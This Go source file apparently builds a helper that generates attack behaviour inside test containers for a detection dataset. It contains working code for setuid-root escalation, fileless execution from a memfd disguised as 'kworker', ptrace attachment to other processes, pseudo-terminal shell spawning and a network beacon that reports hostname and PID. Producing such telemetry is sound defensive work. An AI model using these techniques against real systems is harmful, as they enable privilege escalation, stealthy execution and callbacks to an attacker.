// Command dwhelper performs the attack steps busybox cannot, inside the
// dataset containers: it is built statically at record time and copied into
// the workload images (datasets/record-all.sh). Every target is a test
// fixture: the fake secrets of the busybox rootfs, processes of the same
// container, and listeners on the private test host.
//
//	dwhelper suid CMD...        setuid(0)/setgid(0) then exec CMD (installed mode 4755)
//	dwhelper memfd ARGV...      copy /bin/busybox into a memfd and execveat it with ARGV
//	dwhelper ptrace PID         PTRACE_ATTACH to PID, read one word, detach
//	dwhelper pty CMD...         run CMD on a new pseudo-terminal, feed it stdin lines
//	dwhelper beacon HOST:PORT   connect and send one line (a dropped payload)
package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"syscall"
	"time"
	"unsafe"
)

func main() {
	if len(os.Args) < 2 {
		fail("usage: dwhelper suid|memfd|ptrace|pty|beacon ARGS...")
	}
	var err error
	switch args := os.Args[2:]; os.Args[1] {
	case "suid":
		err = suid(args)
	case "memfd":
		err = memfd(args)
	case "ptrace":
		err = ptrace(args)
	case "pty":
		err = pty(args)
	case "beacon":
		err = beacon(args)
	default:
		err = fmt.Errorf("unknown command %q", os.Args[1])
	}
	if err != nil {
		fail(err.Error())
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "dwhelper:", msg)
	os.Exit(1)
}

func need(args []string, n int, usage string) error {
	if len(args) < n {
		return fmt.Errorf("usage: dwhelper %s", usage)
	}
	return nil
}

// suid becomes root through the file's setuid bit and runs args.
func suid(args []string) error {
	if err := need(args, 1, "suid CMD..."); err != nil {
		return err
	}
	if err := syscall.Setresgid(0, 0, 0); err != nil {
		return fmt.Errorf("setresgid: %w", err)
	}
	if err := syscall.Setresuid(0, 0, 0); err != nil {
		return fmt.Errorf("setresuid: %w", err)
	}
	path, err := exec.LookPath(args[0])
	if err != nil {
		return err
	}
	return syscall.Exec(path, args, os.Environ())
}

// memfd runs busybox from an anonymous memory file: nothing executable is
// written to the filesystem.
func memfd(args []string) error {
	if err := need(args, 1, "memfd ARGV..."); err != nil {
		return err
	}
	name := []byte("kworker\x00")
	fd, _, errno := syscall.Syscall(319 /* memfd_create, x86_64 */, uintptr(unsafe.Pointer(&name[0])), 0, 0)
	if errno != 0 {
		return fmt.Errorf("memfd_create: %w", errno)
	}
	src, err := os.Open("/bin/busybox")
	if err != nil {
		return err
	}
	mf := os.NewFile(fd, "memfd")
	if _, err := io.Copy(mf, src); err != nil {
		return fmt.Errorf("copy to memfd: %w", err)
	}
	src.Close()
	argv, err := syscall.SlicePtrFromStrings(args)
	if err != nil {
		return err
	}
	envv, err := syscall.SlicePtrFromStrings(os.Environ())
	if err != nil {
		return err
	}
	empty := []byte("\x00")
	const atEmptyPath = 0x1000
	_, _, errno = syscall.Syscall6(322 /* execveat, x86_64 */, fd, uintptr(unsafe.Pointer(&empty[0])),
		uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&envv[0])), atEmptyPath, 0)
	return fmt.Errorf("execveat: %w", errno)
}

// ptrace attaches to a process, peeks at it and lets it go.
func ptrace(args []string) error {
	if err := need(args, 1, "ptrace PID"); err != nil {
		return err
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return fmt.Errorf("pid %q: %w", args[0], err)
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := syscall.PtraceAttach(pid); err != nil {
		return fmt.Errorf("PTRACE_ATTACH %d: %w", pid, err)
	}
	var ws syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &ws, syscall.WALL, nil); err != nil {
		return fmt.Errorf("wait %d: %w", pid, err)
	}
	var regs syscall.PtraceRegs
	if err := syscall.PtraceGetRegs(pid, &regs); err != nil {
		return fmt.Errorf("PTRACE_GETREGS %d: %w", pid, err)
	}
	word := make([]byte, 8)
	_, _ = syscall.PtracePeekData(pid, uintptr(regs.Rip), word)
	fmt.Printf("attached to %d, rip %#x\n", pid, regs.Rip)
	return syscall.PtraceDetach(pid)
}

// pty runs a command on a new pseudo-terminal as its controlling tty, as an
// interactive `kubectl exec -it` shell would, copying stdin to it.
func pty(args []string) error {
	if err := need(args, 1, "pty CMD..."); err != nil {
		return err
	}
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer master.Close()
	var n uint32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, master.Fd(), syscall.TIOCGPTN, uintptr(unsafe.Pointer(&n))); e != 0 {
		return fmt.Errorf("TIOCGPTN: %w", e)
	}
	var unlock int32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, master.Fd(), syscall.TIOCSPTLCK, uintptr(unsafe.Pointer(&unlock))); e != 0 {
		return fmt.Errorf("TIOCSPTLCK: %w", e)
	}
	slave, err := os.OpenFile("/dev/pts/"+strconv.Itoa(int(n)), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	cmd.Env = append(os.Environ(), "TERM=xterm")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	if err := cmd.Start(); err != nil {
		return err
	}
	slave.Close()
	go func() { _, _ = io.Copy(os.Stdout, master) }()
	sc := bufio.NewScanner(os.Stdin)
	for sc.Scan() {
		if _, err := master.Write([]byte(sc.Text() + "\n")); err != nil {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		return err
	case <-time.After(10 * time.Second):
		_ = cmd.Process.Kill()
		return <-done
	}
}

// beacon connects to a peer and announces itself.
func beacon(args []string) error {
	if err := need(args, 1, "beacon HOST:PORT"); err != nil {
		return err
	}
	c, err := net.DialTimeout("tcp", args[0], 3*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	host, _ := os.Hostname()
	_, err = fmt.Fprintf(c, "beacon %s %d\n", host, os.Getpid())
	return err
}
